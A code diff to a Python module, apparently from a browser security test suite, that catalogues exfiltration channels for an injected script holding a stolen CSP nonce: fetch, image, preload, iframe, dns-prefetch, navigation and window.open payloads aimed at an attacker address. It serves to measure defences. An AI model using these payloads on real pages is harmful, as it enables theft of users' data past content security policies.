@@ -1,19 +1,23 @@
 """The ways by which a script of an attacker's in a page can send out what it has read.
 
 Each way is the markup of a page, whose scripts have the nonce, as if the attacker had stolen it.
-`TARGET` is an address of the attacker's, at a port that only this way has.
+`TARGET` is an address of the attacker's, at a port that only this way has, `HOST` its host and
+port, and `NAME` a name that only this way has.
 """
 
 from __future__ import annotations
 
 from dataclasses import dataclass
 
+from engines.receiver import HOST, NAME
+
 
 @dataclass(frozen=True)
 class Way:
     """A way out. `open` says that no header closes it, `click` that a user clicks on `#go`.
 
-    One that is `alone` leaves the page, or covers it, so it needs a page for itself.
+    One that is `alone` leaves the page, or covers it, so it needs a page for itself. `visited` says
+    that the user was at the attacker's site before.
     """
 
     name: str
@@ -21,6 +25,12 @@ class Way:
     click: bool = False
     alone: bool = False
     open: bool = False
+    visited: bool = False
+
+    def at(self, port: int) -> str:
+        """Return the markup for one port of the attacker's."""
+        html = self.html.replace("TARGET", f"https://{HOST}:{port}/")
+        return html.replace("NAME", NAME.format(port)).replace("HOST", f"{HOST}:{port}")
 
 
 def script(name: str, code: str) -> Way:
@@ -34,11 +44,11 @@ def added(name: str, element: str, more: str = "", **attributes: str) -> Way:
     return script(name, f"{create}{given}document.body.append(each);{more}")
 
 
-def clicked(name: str, code: str, *, open: bool = False) -> Way:
+def clicked(name: str, code: str, *, open: bool = False, visited: bool = False) -> Way:
     """A script that runs where a user clicks, so that the browser lets it open windows."""
     listener = f"go.addEventListener('click', () => {{{code}}})"
     html = f'<button id="go">Go</button><script nonce="NONCE">{listener}</script>'
-    return Way(name, html, click=True, alone=True, open=open)
+    return Way(name, html, click=True, alone=True, open=open, visited=visited)
 
 
 def link(name: str, attributes: str) -> Way:
@@ -50,6 +60,8 @@ def form(name: str, attributes: str) -> Way:
     return Way(name, f"<form {attributes}>{fields}</form>", click=True, alone=True)
 
 
+# It only looks up a name, which Chromium's log has.
+LOOKUP = "`dns-prefetch`"
 PICTURE = '`<img src="TARGET">`'
 FETCH = '`fetch("TARGET", {mode: "no-cors"}).catch(() => 0)`'
 BLOB = "URL.createObjectURL(new Blob([%s], {type: '%s'}))"
@@ -113,7 +125,7 @@ LOADED = [
     added("`preload`", "link", rel="preload", href="TARGET", **{"as": "image"}),
     added("`modulepreload`", "link", rel="modulepreload", href="TARGET"),
     added("`ping` of a link", "a", "each.click()", ping="TARGET", href="#here"),
-    added("`<iframe>`", "iframe", src="TARGET"),
+    added("`<iframe>`, whose connection opens in advance", "iframe", src="TARGET"),
     added("`<iframe srcdoc>`", "iframe", f"each.srcdoc = {PICTURE}"),
     added("`<iframe>` of `data:`", "iframe", f"each.src = 'data:text/html,' + {PICTURE}"),
     added("`<iframe>` of `blob:`", "iframe", f"each.src = {OF_A_PAGE}"),
@@ -133,6 +145,7 @@ LOADED = [
     ),
     added("`preconnect` by a script", "link", rel="preconnect", href="TARGET"),
     Way("`preconnect` in markup", '<link rel="preconnect" href="TARGET">'),
+    Way(LOOKUP, '<link rel="dns-prefetch" href="https://NAME">'),
     Way("prerendering", f'<script type="speculationrules" nonce="NONCE">{RULES}</script>'),
     script("`import()`", "import('TARGET').catch(() => 0)"),
 ]
@@ -143,6 +156,7 @@ LEAVING = [
     clicked("`location.assign`", "location.assign('TARGET')"),
     clicked("`location.replace`", "location.replace('TARGET')"),
     clicked("`navigation.navigate`", "navigation.navigate('TARGET')"),
+    clicked("`history.back`", "history.back()", visited=True),
     clicked("`open`", "open('TARGET', '_blank')"),
     clicked("`open` with `noopener`", "open('TARGET', '_blank', 'noopener')"),
     link("a link", ""),
